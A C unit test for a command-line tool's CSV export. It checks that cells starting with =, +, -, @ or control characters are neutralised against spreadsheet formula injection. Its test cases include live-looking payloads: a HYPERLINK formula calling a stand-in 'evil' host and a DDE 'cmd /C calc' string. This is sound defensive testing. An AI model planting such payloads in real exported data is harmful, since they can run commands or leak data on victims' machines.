/* test_cli_csv.c - the command line's CSV cells made safe for spreadsheets
 * (formula injection) and quoted as RFC 4180 says. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "cli_internal.h"

/* One CSV row as text (CRLF dropped). */
static char *csv_line(int n, const char *const *cells)
{
    char *text = NULL;
    size_t len = 0;
    FILE *f = open_memstream(&text, &len);
    assert_non_null(f);
    cli_csv_row(f, n, cells);
    fclose(f);
    if (len >= 2 && text[len - 2] == '\r')
        text[len - 2] = '\0';
    return text;
}

/* Issue #10: `logs --format csv` wrote =HYPERLINK(...) cells unchanged; a
 * spreadsheet would evaluate them.  A cell starting with = + - @ TAB or CR
 * gets a leading ', except plain numbers and the lone "-". */
static void test_csv_formula_cells(void **state)
{
    (void)state;
    static const struct {
        const char *cell;
        const char *csv;
    } cases[] = {
        { "=HYPERLINK(\"http://evil/?x\",\"click\")", "\"'=HYPERLINK(\"\"http://evil/?x\"\",\"\"click\"\")\"" },
        { "=1+2", "'=1+2" },
        { "+1+2", "'+1+2" },
        { "-2+3", "'-2+3" },
        { "@SUM(A1:A9)", "'@SUM(A1:A9)" },
        { "\tcmd", "'\tcmd" },
        { "\r=1", "^M=1" },                     /* the sanitiser shows a CR as ^M */
        { "-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0" },
        { "=", "'=" },
        { "invoice.paid", "invoice.paid" },      /* ordinary text: untouched */
        { "a=b", "a=b" },                        /* only the first character counts */
        { " =1", " =1" },
        { "", "" },
        { "42", "42" },                          /* numbers stay numbers */
        { "-42", "-42" },
        { "+42", "+42" },
        { "-1.5", "-1.5" },
        { "-", "-" },                            /* "no value" in sites list */
        { "-1.", "'-1." },
        { "-1e5", "'-1e5" },
        { "--", "'--" },
        { "+", "'+" },
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        const char *cells[] = { cases[i].cell };
        char *line = csv_line(1, cells);
        if (strcmp(line, cases[i].csv) != 0)
            fail_msg("cell '%s': got '%s', wanted '%s'", cases[i].cell, line, cases[i].csv);
        free(line);
    }
    /* Every cell of a row is guarded, not only the first. */
    const char *row[] = { "1", "=A1", "ok", "@x" };
    char *line = csv_line(4, row);
    assert_string_equal(line, "1,'=A1,ok,'@x");
    free(line);
    assert_false(cli_csv_needs_guard(NULL));
    assert_false(cli_csv_needs_guard(""));
    assert_true(cli_csv_needs_guard("=x"));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_csv_formula_cells),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
